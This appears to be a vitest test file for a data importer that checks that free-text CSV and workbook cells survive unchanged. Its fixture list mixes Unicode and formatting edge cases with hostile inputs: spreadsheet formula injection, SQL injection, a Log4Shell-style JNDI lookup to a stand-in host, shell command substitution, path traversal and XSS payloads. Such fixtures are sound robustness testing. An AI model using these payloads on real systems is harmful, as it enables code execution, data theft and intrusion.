import { describe, expect, test } from "vitest";
import { buildWorkbook } from "../formats/build-workbook.ts";
import { freshHomes, only, put, rowsOf } from "./exports-home.ts";

freshHomes();

const between = (from: number, to: number) =>
  Array.from({ length: to - from + 1 }, (_, index) => `a${String.fromCodePoint(from + index)}b`);

/** What people and programs write into a free text, one kind each; blanks around a value are no part of it. */
const printable = [
  "undefined",
  "null",
  "NULL",
  "(null)",
  "nil",
  "None",
  "NaN",
  "Infinity",
  "-",
  "--",
  "n/a",
  "TRUE",
  "0",
  "-1",
  "1e5",
  "0x10",
  "1_000",
  "1,000.00",
  "٠١٢",
  "½",
  "2026-01-05",
  "infinity",
  "epoch",
  "05-Már",
  "=1+1",
  "+1",
  "-2+3",
  "@SUM(1)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://a.example","x")',
  "#1001",
  "# comment",
  "'; drop table leads; --",
  "1' or '1'='1",
  "$1",
  "{{7*7}}",
  "${jndi:ldap://a.example/x}",
  "%s%n%x",
  "$(touch x)",
  "`id`",
  "../../etc/passwd",
  "C:\\temp\\n",
  "\\",
  "\\N",
  "\\0",
  "\\u0000",
  "<img src=x onerror=alert(1)>",
  "</script><script>alert(1)</script>",
  "<!-- x -->",
  "<![CDATA[x]]>",
  "&lt;&amp;&#0;",
  "javascript:alert(1)",
  "a&b<c>d",
  '"',
  '""',
  'a "b" c',
  "'",
  "a,b;c|d",
  ",",
  ";",
  "|",
  "´`'\u201e\u201d",
  "sep=;",
  "(",
  "[a](b)",
  "*?[a-z]",
  "ÁRVÍZTŰRŐ tükörfúrógép",
  "e\u0301 and \u00e9",
  "\ufb01 ﷺ",
  "İıſK",
  "ﬀ",
  "Z͑ͫ̓a̴̵l̢͎g̗̣o",
  "العربية",
  "עברית",
  "テスト",
  "ไทย",
  "𝒜𠜎",
  "👩‍👩‍👧",
  "🏳️‍🌈",
  "🇭🇺",
  "\ufffc",
  "a\u200bb",
  "a\u2060b",
  "a\ufeffb",
  "\u202eright to left",
  "\u2066isolated\u2069",
  "a\u00adb",
  "a\u3000b",
  "a\u2028b\u2029c",
  "\ue000",
  "\u{10fffd}",
  "x".repeat(70_000),
  "ő".repeat(300_000),
  "\u0301".repeat(500),
];
const broken = ["two\nlines", "two\r\nlines", "two\rlines", "a\tb", '"\n"', "\n,\n", "a\n\nb"];
const controls = [...between(1, 8), ...between(11, 12), ...between(14, 31), "a\u007fb"];

const columns = { opportunity_id: "Id", created_at: "Opened", lost_reason: "Why" };
const mapping = JSON.stringify({
  source: "sheet",
  files: [{ file: "deals.csv", stream: "opportunities", columns }],
});
const reasons = async () => (await rowsOf(await only(), "opportunities")).map((row) => row["lost_reason"]);

describe("a free text comes out as it went in, letter by letter", () => {
  test("of a CSV, control characters and line ends too", async () => {
    const all = [...printable, ...broken, ...controls];
    put("m/mapping.json", mapping);
    put(
      "m/deals.csv",
      `Id,Opened,Why\n${all.map((text, index) => `${index},2026-01-05,"${text.replaceAll('"', '""')}"`).join("\n")}\n`,
    );
    expect(await reasons()).toEqual(all);
  });

  test("of a workbook", async () => {
    const all = [...printable, "two\nlines", "a\tb"];
    const escaped = (text: string) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;");
    const cell = (text: string) =>
      `<c t="inlineStr"><is><t xml:space="preserve">${escaped(text)}</t></is></c>`;
    const row = (cells: string[]) => `<row>${cells.map(cell).join("")}</row>`;
    put("m/mapping.json", mapping);
    put(
      "m/deals.csv",
      buildWorkbook({
        sheets: [
          {
            name: "Deals",
            rows: [["Id", "Opened", "Why"], ...all.map((text, index) => [String(index), "2026-01-05", text])]
              .map(row)
              .join(""),
          },
        ],
      }),
    );
    expect(await reasons()).toEqual(all);
  });
});
